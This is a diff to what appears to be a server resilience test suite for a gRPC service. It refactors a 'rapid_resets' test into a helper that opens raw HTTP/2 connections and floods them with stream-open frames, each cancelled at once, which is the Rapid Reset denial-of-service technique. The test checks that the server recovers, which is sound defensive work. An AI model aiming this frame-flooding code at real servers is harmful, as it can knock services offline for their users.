@@ -3,9 +3,10 @@
 from __future__ import annotations
 
 import contextlib
+import socket
 import struct
 from collections import Counter
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 
 from attacks import attack
 from boardwire.v1 import batch_service_pb2 as batch_pb
@@ -60,28 +61,35 @@ def literal(name: bytes, value: bytes) -> bytes:
 @attack(quick=200_000, full=4_000_000, flags=flags)
 def rapid_resets(target: Target, size: int) -> str:
     """Calls that are reset as soon as they are made, as fast as they can be sent, without a token."""
+    # Calls that are over take nothing.
+    with bounded(target, 1.5 * BESIDE):
+        connections = reset_calls(lambda: raw(target), size)
+    until(lambda: target.load() < 0.5, 30, "the server was not done with calls that were reset")
+    served_in_time(target)
+    return f"{connections} connections"
+
+
+def reset_calls(connect: Callable[[], socket.socket], size: int) -> int:
+    """Makes so many calls and resets them at once; gives how many connections that took."""
     head = bytes([0x83, 0x86]) + literal(b":path", b"/boardwire.v1.MatchService/ListMatches")
     head += literal(b":authority", b"a") + literal(b"content-type", b"application/grpc")
     begin = len(head).to_bytes(3, "big") + b"\x01\x04"
     reset, cancel = (4).to_bytes(3, "big") + b"\x03\x00", (8).to_bytes(4, "big")
     connections = sent = 0
-    # Calls that are over take nothing.
-    with bounded(target, 1.5 * BESIDE):
-        while sent < size:
-            connection, stream = raw(target, PREFACE + SETTINGS), 1
-            connection.settimeout(10)
-            connections += 1
-            with contextlib.suppress(OSError):
-                while sent < size:
-                    numbers = (struct.pack(">I", stream + 2 * at) for at in range(1_000))
-                    connection.sendall(
-                        b"".join(begin + number + head + reset + number + cancel for number in numbers)
-                    )
-                    stream, sent = stream + 2_000, sent + 1_000
-            connection.close()
-    until(lambda: target.load() < 0.5, 30, "the server was not done with calls that were reset")
-    served_in_time(target)
-    return f"{connections} connections"
+    while sent < size:
+        connection, stream = connect(), 1
+        connection.settimeout(10)
+        connections += 1
+        with contextlib.suppress(OSError):
+            connection.sendall(PREFACE + SETTINGS)
+            while sent < size:
+                numbers = (struct.pack(">I", stream + 2 * at) for at in range(1_000))
+                connection.sendall(
+                    b"".join(begin + number + head + reset + number + cancel for number in numbers)
+                )
+                stream, sent = stream + 2_000, sent + 1_000
+        connection.close()
+    return connections
 
 
 def served_in_time(target: Target) -> None:
